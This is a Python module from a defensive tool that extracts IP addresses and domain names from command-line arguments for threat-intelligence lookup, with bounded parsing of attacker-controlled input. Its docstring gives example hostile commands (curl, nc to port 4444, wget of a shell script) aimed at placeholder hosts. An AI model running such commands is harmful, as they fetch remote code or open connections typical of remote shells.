"""Addresses and domain names a command line names (`curl http://evil.example/x`, `nc 203.0.113.9 4444`,
`wget -O- 198.51.100.7:8080/a.sh`), for looking them up in the intel index.

Attacker-controlled text: no regular expression; each argument is cut at the characters that cannot
be part of a host name or address, with bounded work (the first `MAX_ARGUMENT_CHARS` of each of the
first `MAX_ARGUMENTS` arguments, at most `MAX_CANDIDATES` candidates).
"""

from __future__ import annotations

import ipaddress

MAX_ARGUMENTS = 64
MAX_ARGUMENT_CHARS = 2048
MAX_CANDIDATES = 32
#: characters that end a host name or IPv4 address inside an argument (URLs, user@host, host:port...)
_CUTS = str.maketrans({c: " " for c in "/\\:@=,;'\"()[]{}<>?#&|!*`$ \t\r\n"})
_HOST_CHARS = frozenset("abcdefghijklmnopqrstuvwxyz0123456789-._")


def _ipv6(arg: str) -> list[str]:
    """IPv6 addresses: a whole argument, or inside [brackets] (URLs, host:port forms)."""
    out = []
    candidates = [arg]
    start = arg.find("[")
    while start >= 0 and len(candidates) < 8:
        end = arg.find("]", start)
        if end < 0:
            break
        candidates.append(arg[start + 1 : end])
        start = arg.find("[", end)
    for c in candidates:
        if c.count(":") >= 2 and len(c) <= 45:
            try:
                out.append(str(ipaddress.IPv6Address(c.split("%", 1)[0])))
            except ValueError:
                continue
    return out


def named_hosts(argv: list[str]) -> tuple[list[str], list[str]]:
    """(IP addresses, domain names) named in `argv` (after the program itself), deduplicated, in order."""
    ips: list[str] = []
    domains: list[str] = []
    seen: set[str] = set()
    for arg in argv[1 : MAX_ARGUMENTS + 1]:
        arg = arg[:MAX_ARGUMENT_CHARS]
        if ":" in arg:
            for ip in _ipv6(arg):
                if ip not in seen:
                    seen.add(ip)
                    ips.append(ip)
        if "." not in arg:
            continue
        for token in arg.lower().translate(_CUTS).split():
            token = token.strip(".-")
            if "." not in token or token in seen or len(token) > 253 or not set(token) <= _HOST_CHARS:
                continue
            seen.add(token)
            parts = token.split(".")
            if len(parts) == 4 and all(p.isdigit() for p in parts):
                try:
                    ips.append(str(ipaddress.IPv4Address(token)))
                except ValueError:
                    pass
            elif not parts[-1].isdigit() and len(parts[-1]) >= 2 and all(parts):
                domains.append(token)
            if len(ips) + len(domains) >= MAX_CANDIDATES:
                return ips, domains
    return ips, domains
